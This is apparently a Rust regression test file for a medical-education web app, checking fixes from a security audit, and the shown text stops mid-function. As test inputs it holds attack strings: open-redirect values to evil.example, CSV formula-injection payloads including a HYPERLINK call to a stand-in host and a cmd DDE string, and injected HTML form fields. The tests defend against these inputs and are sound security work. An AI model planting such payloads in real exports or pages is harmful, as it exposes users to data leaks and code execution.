//! Regression tests for what the outside audit found (issue 11), one or more per numbered
//! point; each failed on the code before the fix.

use crate::support::{ORIGIN, PASSWORD, TestApp, demo_content};
use axum::body::Body;
use http::{Request, StatusCode};
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

/// 7: the public verification answer is never kept by a browser or proxy.
#[tokio::test]
async fn p07_verification_is_never_cached() {
    let app = TestApp::new().await;
    let page = app.get("/verify/NO-SUCH-CODE").await;
    assert_eq!(page.header("cache-control"), "no-store");
    let learner = app.claimed("vera@clinic.org").await;
    let code = crate::support::only_code(&app).await;
    let page = app
        .get_as(&format!("/verify/{code}"), &learner.cookie)
        .await;
    assert_eq!(page.status, StatusCode::OK);
    assert_eq!(page.header("cache-control"), "no-store");
    let page = app.get(&format!("/verify/{code}")).await;
    assert_eq!(page.status, StatusCode::OK);
    assert_eq!(page.header("cache-control"), "no-store");
}

/// 10: `next` after sign-in only ever stays on this site.
#[tokio::test]
async fn p10_sign_in_never_redirects_off_site() {
    let app = TestApp::new().await;
    app.learner("nia@clinic.org").await;
    for (next, expected) in [
        ("/\t/evil.example", "/learning"),
        ("/\n/evil.example", "/learning"),
        ("//evil.example", "/learning"),
        ("/%09/evil.example", "/learning"),
        ("https://evil.example/", "/learning"),
        (
            "/courses/telehealth-for-clinical-teams",
            "/courses/telehealth-for-clinical-teams",
        ),
    ] {
        let page = app
            .post_form(
                "/account/login",
                &[
                    ("email", "nia@clinic.org"),
                    ("password", PASSWORD),
                    ("next", next),
                ],
                None,
            )
            .await;
        assert_eq!(page.status, StatusCode::SEE_OTHER, "{next:?}");
        assert_eq!(page.location(), expected, "{next:?}");
    }
}

/// 14: made-up query strings and long paths do not fill the page cache; real pages still
/// get cached.
#[tokio::test]
async fn p14_the_page_cache_is_keyed_on_real_pages_only() {
    let app = TestApp::new().await;
    assert_eq!(app.get("/courses").await.status, StatusCode::OK);
    let after_real = app.state.page_cache.stats();
    assert_eq!(after_real.pages, 1, "a real page is kept");
    for n in 0..200 {
        let page = app.get(&format!("/courses?utm={n}")).await;
        assert_eq!(page.status, StatusCode::OK);
    }
    let long = format!("/courses/{}", "x".repeat(4000));
    app.get(&long).await;
    assert_eq!(
        app.state.page_cache.stats(),
        after_real,
        "nothing else was kept"
    );
    // The budget holds: a small cache evicts the oldest page for a new one.
    let small = server::page_cache::PageCache::with_budget(
        app.state.catalog.clone(),
        server::route_table(),
        after_real.bytes + 10,
    );
    let mut state = app.state.clone();
    state.page_cache = small.clone();
    let router = server::build_router(state);
    for path in ["/courses", "/", "/courses"] {
        let response = tower::ServiceExt::oneshot(
            router.clone(),
            Request::get(path).body(Body::empty()).expect("request"),
        )
        .await
        .expect("answer");
        assert_eq!(response.status(), StatusCode::OK);
        http_body_util::BodyExt::collect(response.into_body())
            .await
            .expect("body");
        let stats = small.stats();
        assert!(stats.bytes <= after_real.bytes + 10, "{stats:?}");
        assert_eq!(stats.pages, 1, "one page fits the budget: {stats:?}");
    }
}

/// Reads what the server sends until it closes the connection or `wait` passes.
async fn read_for(stream: &mut tokio::net::TcpStream, wait: Duration) -> Option<String> {
    let mut buffer = Vec::new();
    match tokio::time::timeout(wait, stream.read_to_end(&mut buffer)).await {
        Ok(_) => Some(String::from_utf8_lossy(&buffer).into_owned()),
        Err(_) => None,
    }
}

/// 15: a client trickling its headers is cut off; the connection limit holds the rest in
/// the queue until a slot is free.
#[tokio::test]
async fn p15_slow_headers_are_cut_off_and_connections_are_limited() {
    let app = TestApp::new().await;
    let limits = server::serve::Limits {
        header_read_timeout: Duration::from_secs(1),
        idle_timeout: Duration::from_secs(1),
        max_connections: 1,
        shutdown_grace: Duration::from_secs(1),
    };
    let address = app.serve_with(limits).await;

    let mut slow = tokio::net::TcpStream::connect(address)
        .await
        .expect("connect");
    slow.write_all(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n")
        .await
        .expect("write");
    // A second client while the only slot is taken: not served yet.
    let mut queued = tokio::net::TcpStream::connect(address)
        .await
        .expect("connect");
    queued
        .write_all(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        .await
        .expect("write");
    let started = std::time::Instant::now();
    let trickle = async {
        for n in 0..20 {
            if slow
                .write_all(format!("X-Slow-{n}: 1\r\n").as_bytes())
                .await
                .is_err()
            {
                return started.elapsed();
            }
            tokio::time::sleep(Duration::from_millis(300)).await;
            let mut byte = [0u8; 1];
            if let Ok(Ok(0)) =
                tokio::time::timeout(Duration::from_millis(1), slow.read(&mut byte)).await
            {
                return started.elapsed();
            }
        }
        started.elapsed()
    };
    let cut_after = trickle.await;
    assert!(
        cut_after < Duration::from_secs(4),
        "the trickling client was cut off after {cut_after:?}"
    );
    let answer = read_for(&mut queued, Duration::from_secs(5))
        .await
        .expect("the queued client is served once the slot is free");
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");

    // A client that connects and sends nothing at all is cut off as well, and so is one
    // that opens with the first bytes of an HTTP/2 preface.
    for opening in [&b""[..], &b"PRI * HTTP/2.0\r\n"[..]] {
        let mut silent = tokio::net::TcpStream::connect(address)
            .await
            .expect("connect");
        silent.write_all(opening).await.expect("write");
        let started = std::time::Instant::now();
        let closed = read_for(&mut silent, Duration::from_secs(4)).await;
        assert!(
            closed.is_some(),
            "a silent client ({opening:?}) was still connected after {:?}",
            started.elapsed()
        );
        // The slot is free again: a normal request is served.
        let mut next = tokio::net::TcpStream::connect(address)
            .await
            .expect("connect");
        next.write_all(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
            .await
            .expect("write");
        let answer = read_for(&mut next, Duration::from_secs(5))
            .await
            .expect("served");
        assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    }
}

/// 16: `.`/`..` segments, empty segments and encoded slashes never reach a page under
/// another name.
#[tokio::test]
async fn p16_non_canonical_paths_are_redirected_or_refused() {
    let app = TestApp::new().await;
    for path in ["/./verify/CODE", "/x/../verify/CODE", "/verify//CODE"] {
        let page = app.get(path).await;
        assert_eq!(page.status, StatusCode::PERMANENT_REDIRECT, "{path}");
        assert_eq!(page.location(), "/verify/CODE", "{path}");
    }
    let page = app.get("/verify/%2e%2e/CODE").await;
    assert_eq!(page.status, StatusCode::BAD_REQUEST);
    page.assert_contains("not accept");
    let page = app
        .post_form(
            "/account/./login",
            &[("email", "a@b.org"), ("password", "x")],
            None,
        )
        .await;
    assert_eq!(page.status, StatusCode::BAD_REQUEST);
    // The verification limit cannot be side-stepped: lookups under other names are only
    // redirects, and never reach the page.
    for _ in 0..40 {
        assert_eq!(
            app.get("/x/../verify/CODE").await.status,
            StatusCode::PERMANENT_REDIRECT
        );
    }
}

/// 19: whatever is rendered for a signed-in reader is never stored.
#[tokio::test]
async fn p19_personal_pages_are_private_and_not_stored() {
    let app = TestApp::new().await;
    let learner = app.claimed("pia@clinic.org").await;
    let admin = app
        .user("root@clinic.org", app::accounts::Role::Admin)
        .await;
    let code = crate::support::only_code(&app).await;
    let certificate = format!("/certificates/{code}");
    let pdf = format!("/certificates/{code}/certificate.pdf");
    for path in [
        "/account",
        "/learning",
        "/transcript",
        "/transcript.csv",
        "/courses",
        &certificate,
        &pdf,
    ] {
        let page = app.get_as(path, &learner.cookie).await;
        assert_eq!(page.status, StatusCode::OK, "{path}");
        assert_eq!(page.header("cache-control"), "private, no-store", "{path}");
    }
    for path in ["/admin/users", "/admin/certificates", "/admin/reports"] {
        let page = app.get_as(path, &admin.cookie).await;
        assert_eq!(page.status, StatusCode::OK, "{path}");
        assert_eq!(page.header("cache-control"), "private, no-store", "{path}");
    }
}

/// 20: an https public URL means HSTS and a Secure cookie; the same-origin check trusts the
/// configured URL, scheme included, never the Host header.
#[tokio::test]
async fn p20_transport_follows_the_public_url() {
    let https = TestApp::with_settings(
        |s| s.public_url = "https://cme.example.org".into(),
        &demo_content(),
    )
    .await;
    let page = https.get("/").await;
    assert_eq!(page.header("strict-transport-security"), "max-age=31536000");
    let login = https
        .request(
            Request::post("/account/login")
                .header("content-type", "application/x-www-form-urlencoded")
                .header("origin", "https://cme.example.org")
                .body(Body::from("email=a%40b.org&password=x"))
                .expect("request"),
        )
        .await;
    assert_eq!(login.status, StatusCode::SEE_OTHER);
    let cookie = login
        .headers
        .get("set-cookie")
        .and_then(|v| v.to_str().ok())
        .expect("the form-state cookie")
        .to_owned();
    assert!(
        cookie.starts_with("gr_form=") && cookie.contains("Secure"),
        "{cookie}"
    );
    let registered = https
        .request(
            Request::post("/account/register")
                .header("content-type", "application/x-www-form-urlencoded")
                .header("origin", "https://cme.example.org")
                .body(Body::from(
                    "email=sec%40clinic.org&password=river+lantern+quietly&full_name=Sec+Ure&profession=nurse",
                ))
                .expect("request"),
        )
        .await;
    assert_eq!(registered.location(), "/login");
    let signed_in = https.confirm_address("sec@clinic.org").await;
    let session = signed_in.set_cookie().expect("a session cookie");
    assert!(session.contains("Secure"), "{session}");

    let http = TestApp::new().await;
    assert!(
        !http
            .get("/")
            .await
            .headers
            .contains_key("strict-transport-security")
    );
    for (origin, host) in [
        ("http://evil.example", "evil.example"),
        ("https://localhost", "localhost"),
    ] {
        let page = http
            .request(
                Request::post("/account/login")
                    .header("content-type", "application/x-www-form-urlencoded")
                    .header("origin", origin)
                    .header("host", host)
                    .body(Body::from("email=a%40b.org&password=x"))
                    .expect("request"),
            )
            .await;
        assert_eq!(page.status, StatusCode::FORBIDDEN, "{origin}");
    }
    let page = http
        .post_form(
            "/account/login",
            &[("email", "a@b.org"), ("password", "x")],
            None,
        )
        .await;
    assert_eq!(page.status, StatusCode::SEE_OTHER, "from {ORIGIN} itself");
}

/// A test app that believes `X-Forwarded-For` (its router sees every request as coming from
/// 0.0.0.0, made a trusted proxy here), so tests can speak from several addresses.
async fn behind_a_proxy() -> TestApp {
    TestApp::with_settings(
        |s| s.trusted_proxies = vec!["0.0.0.0/32".parse().expect("net")],
        &demo_content(),
    )
    .await
}

async fn login_from(app: &TestApp, email: &str, password: &str, address: &str) -> StatusCode {
    let body = format!(
        "email={}&password={}",
        email.replace('@', "%40"),
        password.replace(' ', "+")
    );
    let page = app
        .request(
            Request::post("/account/login")
                .header("content-type", "application/x-www-form-urlencoded")
                .header("origin", ORIGIN)
                .header("x-forwarded-for", address)
                .body(Body::from(body))
                .expect("request"),
        )
        .await;
    assert_eq!(page.status, StatusCode::SEE_OTHER);
    if page.location() == "/login" {
        StatusCode::UNAUTHORIZED
    } else {
        StatusCode::OK
    }
}

/// 8: fifty wrong passwords at once for one account: only the limit's worth are checked, and
/// the account is locked for that address afterwards.
#[tokio::test]
async fn p08_concurrent_guesses_all_meet_the_limit() {
    let app = behind_a_proxy().await;
    app.learner("ora@clinic.org").await;
    let before = app.state.hasher.verifications();
    let guesses = (0..50).map(|n| {
        let app = &app;
        async move {
            login_from(
                app,
                "ora@clinic.org",
                &format!("guess number {n}"),
                "198.51.100.7",
            )
            .await
        }
    });
    let answers = futures::future::join_all(guesses).await;
    assert!(answers.iter().all(|s| *s == StatusCode::UNAUTHORIZED));
    let checked = app.state.hasher.verifications() - before;
    assert!(
        checked <= 10,
        "{checked} passwords were checked; the limit is 10"
    );
    assert_eq!(
        login_from(&app, "ora@clinic.org", PASSWORD, "198.51.100.7").await,
        StatusCode::UNAUTHORIZED,
        "locked for this address, even with the right password"
    );
}

/// 9: a stranger's wrong passwords lock only the stranger's address out; a locked address
/// costs no hash; the owner elsewhere still signs in.
#[tokio::test]
async fn p09_nobody_can_lock_the_owner_out() {
    let app = behind_a_proxy().await;
    app.learner("uma@clinic.org").await;
    for n in 0..12 {
        login_from(&app, "uma@clinic.org", &format!("wrong {n}"), "203.0.113.9").await;
    }
    let before = app.state.hasher.verifications();
    for n in 0..20 {
        login_from(&app, "uma@clinic.org", &format!("more {n}"), "203.0.113.9").await;
    }
    assert_eq!(
        app.state.hasher.verifications(),
        before,
        "a locked address pays no argon2 hash"
    );
    assert_eq!(
        login_from(&app, "uma@clinic.org", PASSWORD, "192.0.2.44").await,
        StatusCode::OK,
        "the owner, from their own address"
    );
}

/// 11: registration is rate-limited per address (the answer for a known address would
/// otherwise be a free list of accounts).
#[tokio::test]
async fn p11_registration_is_rate_limited_per_address() {
    let app = behind_a_proxy().await;
    let register = |n: usize, address: &'static str| {
        let app = &app;
        async move {
            app.request(
                Request::post("/account/register")
                    .header("content-type", "application/x-www-form-urlencoded")
                    .header("origin", ORIGIN)
                    .header("x-forwarded-for", address)
                    .body(Body::from(format!(
                        "email=probe{n}%40clinic.org&password=short"
                    )))
                    .expect("request"),
            )
            .await
        }
    };
    for n in 0..30 {
        let page = register(n, "198.51.100.20").await;
        let cookie = page.cookies();
        let state = app
            .get_as("/register", cookie.as_deref().unwrap_or_default())
            .await;
        assert!(!state.body.contains("Too many accounts"), "attempt {n}");
    }
    let page = register(31, "198.51.100.20").await;
    let cookie = page.cookies().unwrap_or_default();
    app.get_as("/register", &cookie)
        .await
        .assert_contains("Too many accounts were created from your network");
    let page = register(32, "198.51.100.21").await;
    let cookie = page.cookies().unwrap_or_default();
    let other = app.get_as("/register", &cookie).await;
    assert!(!other.body.contains("Too many accounts"), "another address");
}

/// 12: the current-password check on /account is throttled like sign-in.
#[tokio::test]
async fn p12_the_current_password_check_is_throttled() {
    let app = TestApp::new().await;
    let learner = app.learner("ida@clinic.org").await;
    let change = |current: &'static str| {
        let app = &app;
        let cookie = learner.cookie.clone();
        async move {
            app.post_form(
                "/account/password",
                &[
                    ("current_password", current),
                    ("new_password", "a whole new sentence here"),
                ],
                Some(&cookie),
            )
            .await;
            app.get_as("/account", &cookie).await
        }
    };
    for _ in 0..10 {
        change("not my password")
            .await
            .assert_contains("this is not your current password");
    }
    let before = app.state.hasher.verifications();
    change(PASSWORD)
        .await
        .assert_contains("too many wrong attempts");
    assert_eq!(app.state.hasher.verifications(), before);
}

/// 5: a field sent twice gets a message on its form, never a 500, and nothing is stored.
#[tokio::test]
async fn p05_a_field_sent_twice_is_refused_with_a_message() {
    let app = TestApp::new().await;
    let learner = app.finished("dee@clinic.org").await;
    let page = app
        .post_form(
            "/learning/claim",
            &[
                ("course", crate::support::COURSE),
                ("hours-nursing-contact-hours", "0.75"),
                ("hours-nursing-contact-hours", "0.75"),
            ],
            Some(&learner.cookie),
        )
        .await;
    assert_eq!(page.status, StatusCode::SEE_OTHER);
    let credit = app.get_as(page.location(), &learner.cookie).await;
    credit.assert_contains("was sent more than once");
    assert_eq!(app.count("SELECT COUNT(*) FROM credit_claims").await, 0);
    assert_eq!(app.count("SELECT COUNT(*) FROM certificates").await, 0);
    // The account forms too.
    let page = app
        .post_form(
            "/account/profile",
            &[
                ("full_name", "Dee One"),
                ("full_name", "Dee Two"),
                ("profession", "nurse"),
            ],
            Some(&learner.cookie),
        )
        .await;
    assert_eq!(page.status, StatusCode::SEE_OTHER);
    app.get_as("/account", &learner.cookie)
        .await
        .assert_contains("was sent more than once");
    assert_eq!(
        app.count("SELECT COUNT(*) FROM users WHERE full_name LIKE 'Dee%'")
            .await,
        0
    );
    // Forms that read single values too: a second enrolment field gets the message and
    // enrols nowhere.
    let other = app.learner("dex@clinic.org").await;
    let page = app
        .post_form(
            "/learning/enroll",
            &[
                ("course", "remote-monitoring-for-nurses"),
                ("course", crate::support::COURSE),
            ],
            Some(&other.cookie),
        )
        .await;
    app.get_as(page.location(), &other.cookie)
        .await
        .assert_contains("was sent more than once");
    assert_eq!(
        app.count(&format!(
            "SELECT COUNT(*) FROM enrollments WHERE user_id = {}",
            other.id
        ))
        .await,
        0
    );
}

/// 17: self-reported entries are capped per learner.
#[tokio::test]
async fn p17_self_reported_entries_are_capped() {
    let app = TestApp::new().await;
    let learner = app.learner("eli@clinic.org").await;
    let cap = server::transcript::store::MAX_EXTERNAL;
    sqlx::query(
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < $2) \
         INSERT INTO external_credits (user_id, title, provider, credit_type, quarters, completed_on, created_at) \
         SELECT $1, 'Entry ' || i, 'Elsewhere', 'participation', 4, '2026-01-01', '2026-01-01T00:00:00Z' FROM n",
    )
    .bind(learner.id)
    .bind(cap - 1)
    .execute(&app.state.pool)
    .await
    .expect("entries");
    let add = |title: &'static str| {
        let app = &app;
        let cookie = learner.cookie.clone();
        async move {
            app.post_form(
                "/transcript/external",
                &[
                    ("title", title),
                    ("provider", "County hospital"),
                    ("credit_type", "nursing-contact-hours"),
                    ("hours", "1"),
                    ("completed_on", "2026-02-01"),
                ],
                Some(&cookie),
            )
            .await;
            app.get_as("/transcript", &cookie).await
        }
    };
    add("The last one that fits").await.assert_contains("Added");
    add("One too many")
        .await
        .assert_contains("the most it keeps");
    assert_eq!(
        app.count("SELECT COUNT(*) FROM external_credits").await,
        cap
    );
}

/// 18: cells a spreadsheet would run as formulas are written as text, in every CSV.
#[tokio::test]
async fn p18_csv_cells_never_become_formulas() {
    let app = TestApp::new().await;
    let learner = app.enrolled("fay@clinic.org", "nurse").await;
    let page = app
        .post_form(
            "/account/profile",
            &[
                ("full_name", "=HYPERLINK(\"//evil.example/\"&F2,\"open\")"),
                ("profession", "nurse"),
                ("board_id", "-A1"),
                ("consent_reporting", "on"),
            ],
            Some(&learner.cookie),
        )
        .await;
    assert_eq!(page.location(), "/account");
    crate::support::finish_course(&app, &learner.cookie).await;
    crate::support::claim(&app, &learner.cookie).await;
    app.post_form(
        "/transcript/external",
        &[
            ("title", "@SUM(1+1)"),
            ("provider", "+cmd|' /C calc'!A0"),
            ("credit_type", "nursing-contact-hours"),
            ("hours", "1"),
            ("completed_on", "2026-02-01"),
        ],
        Some(&learner.cookie),
    )
    .await;
    let admin = app.user("ops@clinic.org", app::accounts::Role::Admin).await;
    let export = app.get_as("/admin/export.csv", &admin.cookie).await;
    assert_eq!(export.status, StatusCode::OK);
    let transcript = app.get_as("/transcript.csv", &learner.cookie).await;
    assert_eq!(transcript.status, StatusCode::OK);
    for (name, csv) in [("export", &export.body), ("transcript", &transcript.body)] {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(csv.as_bytes());
        let mut cells = 0;
        for record in reader.records() {
            for cell in record.expect("record").iter() {
                cells += 1;
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{name}: live formula cell {cell:?}"
                );
            }
        }
        assert!(cells > 10, "{name} has content");
    }
    assert!(export.body.contains("'=HYPERLINK("), "{}", export.body);
    assert!(export.body.contains("'-A1"), "{}", export.body);
    assert!(
        transcript.body.contains("'@SUM(1+1)"),
        "{}",
        transcript.body
    );
}

/// 22: lesson HTML keeps only the ids the renderer gave (headings, footnotes) and no form
/// controls, so content cannot clobber the page's ids or add fields to its forms.
#[tokio::test]
async fn p22_content_cannot_clobber_page_ids_or_add_inputs() {
    let content = tempfile::tempdir().expect("dir");
    crate::support::copy_dir(&demo_content(), content.path());
    let lesson = content
        .path()
        .join("courses/telehealth-for-clinical-teams/02-modalities.md");
    let mut text = std::fs::read_to_string(&lesson).expect("lesson");
    text.push_str(
        "\n\n<div id=\"main\">x</div> <p id=\"field-email\">y</p> <input name=\"course\" value=\"other\">\n\n\
         - [x] done item\n\nA note[^main].\n\n[^main]: The footnote.\n\n## Main\n",
    );
    std::fs::write(&lesson, text).expect("write");
    let app = TestApp::with_content(content.path()).await;
    let page = app
        .get(&format!("/courses/{}/modalities", crate::support::COURSE))
        .await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    assert_eq!(
        page.body.matches("id=\"main\"").count(),
        1,
        "only the page's own"
    );
    assert!(!page.body.contains("id=\"field-email\""));
    assert!(
        !page.body.contains("value=\"other\""),
        "no input from content"
    );
    page.assert_contains("☑ done item");
    page.assert_contains("id=\"fn-main\"");
    page.assert_contains("href=\"#fn-main\"");
    page.assert_contains("<h2 id=\"main-2\">Main</h2>");
}

fn result_path(kind: &str, number: u32) -> String {
    format!("/learning/{}/quiz/{kind}/{number}", crate::support::COURSE)
}

/// Whether a result page gives the key away: an option marked correct, an explanation, or
/// the key in the hydration data.
fn shows_key(page: &crate::support::Page) -> bool {
    page.body.contains("(correct answer)")
        || page.body.contains("your answer, correct")
        || page.body.contains("\"correct\":true")
        || page.body.contains("explanation-label")
}

/// 1: a failed post-test with attempts left shows per question only right or wrong; the
/// key and the explanations come after a pass or the last attempt; the pre-test's key waits
/// for the post-test.
#[tokio::test]
async fn p01_the_answer_key_waits_until_no_attempt_can_use_it() {
    use crate::support::{answers, open_quiz, stored_quiz, submit};
    let app = TestApp::new().await;
    let post = stored_quiz(&app, "post").await;
    // One learner fails, fails, then passes.
    let ana = app.studied("ana@clinic.org", "nurse").await.cookie;
    let pre_result = app.get_as(&result_path("pre-test", 1), &ana).await;
    assert_eq!(pre_result.status, StatusCode::OK);
    assert!(
        !shows_key(&pre_result),
        "the pre-test key would answer the post-test"
    );
    for number in 1..=2 {
        let token = open_quiz(&app, &ana, "post-test").await;
        submit(&app, &ana, &token, &answers(&post, false)).await;
        let page = app.get_as(&result_path("post-test", number), &ana).await;
        assert_eq!(page.status, StatusCode::OK);
        page.assert_contains("(incorrect)");
        assert!(!shows_key(&page), "attempt {number} of 3 failed: no key");
    }
    let token = open_quiz(&app, &ana, "post-test").await;
    submit(&app, &ana, &token, &answers(&post, true)).await;
    let passed = app.get_as(&result_path("post-test", 3), &ana).await;
    assert!(shows_key(&passed), "after a pass the key is shown");
    assert!(
        shows_key(&app.get_as(&result_path("post-test", 1), &ana).await),
        "and on the earlier attempts too"
    );
    assert!(shows_key(
        &app.get_as(&result_path("pre-test", 1), &ana).await
    ));
    // Another fails all three: the last attempt shows the key.
    let bo = app.studied("bo@clinic.org", "nurse").await.cookie;
    for _ in 1..=3 {
        let token = open_quiz(&app, &bo, "post-test").await;
        submit(&app, &bo, &token, &answers(&post, false)).await;
    }
    assert!(shows_key(
        &app.get_as(&result_path("post-test", 3), &bo).await
    ));
}

/// 2: study comes before completion: a lesson is opened before it is complete, the
/// post-test follows the pre-test and every lesson (unless the course allows testing out,
/// and then says so), and a claim above the recorded time is attested.
#[tokio::test]
async fn p02_completion_needs_study() {
    use crate::support::{COURSE, PASSWORD};
    let app = TestApp::new().await;
    let learner = app.enrolled("cai@clinic.org", "nurse").await;
    let cookie = &learner.cookie;
    // A lesson never opened.
    let page = app
        .post_form(
            "/learning/complete",
            &[("course", COURSE), ("lesson", "barriers")],
            Some(cookie),
        )
        .await;
    let lesson = app.get_as(page.location(), cookie).await;
    lesson.assert_contains("a lesson you have not opened cannot be marked complete");
    assert_eq!(
        app.count("SELECT COUNT(*) FROM lesson_progress WHERE completed_at IS NOT NULL")
            .await,
        0
    );
    // The post-test straight after enrolling.
    let quiz = app
        .get_as(&format!("/learning/{COURSE}/quiz/post-test"), cookie)
        .await;
    quiz.assert_contains("The post-test opens after the pre-test");
    assert!(!quiz.body.contains("name=\"token\""));
    // After the pre-test, still not before the lessons.
    let pre = crate::support::stored_quiz(&app, "pre").await;
    let token = crate::support::open_quiz(&app, cookie, "pre-test").await;
    crate::support::submit(&app, cookie, &token, &crate::support::answers(&pre, false)).await;
    app.get_as(&format!("/learning/{COURSE}/quiz/post-test"), cookie)
        .await
        .assert_contains("0 of 5 are");
    assert_eq!(
        app.count("SELECT COUNT(*) FROM quiz_attempts WHERE kind = 'post'")
            .await,
        0,
        "no post-test attempt was even started"
    );

    // A course that allows testing out says so, and opens the post-test at once.
    let content = tempfile::tempdir().expect("dir");
    crate::support::copy_dir(&demo_content(), content.path());
    let file = content.path().join(format!("courses/{COURSE}/course.md"));
    let text = std::fs::read_to_string(&file).expect("course");
    std::fs::write(
        &file,
        text.replacen("featured = true", "featured = true\ntest_out = true", 1),
    )
    .expect("write");
    let lenient = TestApp::with_content(content.path()).await;
    let cookie = lenient.enrolled("dov@clinic.org", "nurse").await.cookie;
    lenient
        .get(&format!("/courses/{COURSE}"))
        .await
        .assert_contains("This course allows testing out");
    let quiz = lenient
        .get_as(&format!("/learning/{COURSE}/quiz/post-test"), &cookie)
        .await;
    assert!(
        quiz.body.contains("name=\"token\""),
        "the post-test is open"
    );
    let _ = PASSWORD;

    // A claim of the full hour after seconds of study asks for the attestation.
    let finished = app.finished("eve@clinic.org").await;
    app.post_form(
        "/learning/claim",
        &[("course", COURSE), ("hours-nursing-contact-hours", "1")],
        Some(&finished.cookie),
    )
    .await;
    app.get_as(&format!("/learning/{COURSE}/credit"), &finished.cookie)
        .await
        .assert_contains("I attest that I spent 1 hours on this activity.");
    assert_eq!(app.count("SELECT COUNT(*) FROM credit_claims").await, 0);
}

/// 3: no enrolment before release or after expiry, no claim after expiry, and an expired
/// activity leaves the catalog (its certificates stay).
#[tokio::test]
async fn p03_release_and_expiry_are_enforced() {
    use crate::support::COURSE;
    let content = tempfile::tempdir().expect("dir");
    crate::support::copy_dir(&demo_content(), content.path());
    let file = content
        .path()
        .join("courses/remote-monitoring-for-nurses/course.md");
    let text = std::fs::read_to_string(&file).expect("course");
    std::fs::write(
        &file,
        text.replace("release_date = 2026-10-01", "release_date = 2030-01-01")
            .replace("expiry_date = 2028-09-30", "expiry_date = 2032-01-01"),
    )
    .expect("write");
    let app = TestApp::with_content(content.path()).await;
    let learner = app.learner("fin@clinic.org").await;
    let page = app
        .post_form(
            "/learning/enroll",
            &[("course", "remote-monitoring-for-nurses")],
            Some(&learner.cookie),
        )
        .await;
    app.get_as(page.location(), &learner.cookie)
        .await
        .assert_contains("This course opens for enrolment on 2030-01-01");
    assert_eq!(app.count("SELECT COUNT(*) FROM enrollments").await, 0);

    // A learner who finished before the expiry, and one with a certificate.
    app.finished("gil@clinic.org").await;
    app.claimed("hal@clinic.org").await;
    app.learner("ivy@clinic.org").await;
    // The activity's expiry passes (the one clock moves to the day after).
    server::clock::set_clock(time::macros::datetime!(2028-09-01 12:00 UTC));
    // Sessions do not outlive two years of the clock: sign in again.
    let late = app.sign_in("gil@clinic.org").await;
    let other = app.sign_in("ivy@clinic.org").await;
    let done = app.sign_in("hal@clinic.org").await;
    let page = crate::support::claim(&app, &late).await;
    app.get_as(page.location(), &late)
        .await
        .assert_contains("could be claimed until 2028-08-31; the activity has expired");
    assert_eq!(app.count("SELECT COUNT(*) FROM credit_claims").await, 1);
    let page = app
        .post_form("/learning/enroll", &[("course", COURSE)], Some(&other))
        .await;
    app.get_as(page.location(), &other)
        .await
        .assert_contains("This course expired on 2028-08-31");
    let catalog = app.get("/courses").await;
    assert!(
        !catalog
            .body
            .contains("Telehealth and telemedicine for clinical teams")
    );
    assert!(
        !app.get("/")
            .await
            .body
            .contains(&format!("/courses/{COURSE}\""))
    );
    let code = crate::support::only_code(&app).await;
    app.get_as(&format!("/certificates/{code}"), &done)
        .await
        .assert_contains("Telehealth and telemedicine for clinical teams");
}

/// 4: the profession that picked the credit type is on the claim, and a change of
/// profession is in the audit log an administrator reads.
#[tokio::test]
async fn p04_profession_is_on_the_claim_and_its_change_is_audited() {
    use crate::support::COURSE;
    let app = TestApp::new().await;
    let learner = app.finished("jo@clinic.org").await;
    let page = app
        .post_form(
            "/account/profile",
            &[("full_name", "Jo Nurse"), ("profession", "physician")],
            Some(&learner.cookie),
        )
        .await;
    assert_eq!(page.location(), "/account");
    let page = app
        .post_form(
            "/learning/claim",
            &[
                ("course", COURSE),
                ("hours-ama-pra-category-1", "1"),
                ("attest", "1"),
            ],
            Some(&learner.cookie),
        )
        .await;
    assert_eq!(page.status, StatusCode::SEE_OTHER);
    let (profession, kind): (String, String) =
        sqlx::query_as("SELECT profession, credit_type FROM credit_claims")
            .fetch_one(&app.state.pool)
            .await
            .expect("claim");
    assert_eq!(
        (profession.as_str(), kind.as_str()),
        ("physician", "ama-pra-category-1")
    );
    let admin = app.user("kai@clinic.org", app::accounts::Role::Admin).await;
    let console = app.get_as("/admin", &admin.cookie).await;
    assert_eq!(console.status, StatusCode::OK);
    console.assert_contains("profession changed from nurse to physician");
}

/// 13: anonymous form posts create no session rows; what is kept for the next page is cut
/// to each field's maximum and carried in a small signed cookie.
#[tokio::test]
async fn p13_anonymous_posts_create_no_session_rows() {
    let app = TestApp::new().await;
    let sessions = &format!("SELECT COUNT(*) FROM {}", app.state.sessions.table());
    let before = app.count(sessions).await;
    let huge = "x".repeat(80 * 1024);
    for _ in 0..10 {
        let page = app
            .post_form(
                "/account/register",
                &[
                    ("email", huge.as_str()),
                    ("full_name", huge.as_str()),
                    ("unknown_field", huge.as_str()),
                    ("password", "short"),
                ],
                None,
            )
            .await;
        assert_eq!(page.status, StatusCode::SEE_OTHER);
        let cookie = page.headers.get("set-cookie").and_then(|v| v.to_str().ok());
        let cookie = cookie.expect("the form-state cookie");
        assert!(
            cookie.len() < 4096,
            "a cookie a browser keeps: {} bytes",
            cookie.len()
        );
        let form = app
            .get_as("/register", &page.cookies().expect("cookie"))
            .await;
        form.assert_contains("Please correct");
        assert!(
            !form.body.contains(&"x".repeat(255)),
            "no value longer than its field"
        );
    }
    assert_eq!(
        app.count(sessions).await,
        before,
        "no session row was written"
    );
}

/// The official schema, with formats asserted (`date-time` must be a date-time).
fn open_badges_schema() -> jsonschema::Validator {
    let text = include_str!("../fixtures/open-badges-3/ob_v3p0_achievementcredential_schema.json");
    let schema: serde_json::Value = serde_json::from_str(text).expect("schema JSON");
    jsonschema::draft201909::options()
        .should_validate_formats(true)
        .build(&schema)
        .expect("the schema compiles")
}

async fn credential_of(app: &TestApp, code: &str, cookie: &str) -> serde_json::Value {
    use base64::Engine as _;
    let jwt = app
        .get_as(&format!("/certificates/{code}/credential.jwt"), cookie)
        .await;
    assert_eq!(jwt.status, StatusCode::OK);
    let payload = jwt.body.trim().split('.').nth(1).expect("a compact JWS");
